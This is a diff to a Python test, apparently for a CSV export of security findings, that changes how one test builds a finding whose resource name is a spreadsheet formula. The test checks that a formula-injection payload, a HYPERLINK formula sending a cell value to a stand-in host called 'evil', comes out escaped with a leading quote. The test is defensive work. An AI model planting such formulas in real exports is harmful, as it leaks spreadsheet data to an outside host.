@@ -66,7 +66,7 @@ def test_every_finding_is_one_row(accepted: Report) -> None:
 def test_hostile_names_are_neutralised(report: Report) -> None:
     """A column may be called like a formula."""
     evil = '=HYPERLINK("http://evil/?"&A1,"x")'
-    named = replace(report.findings[0], resource_id=evil)
+    named = report.findings[0]._replace(resource_id=evil)
     head, row = rows(replace(report, findings=(named,)))
 
     assert f"'{evil}" == row[head.index("resource")]
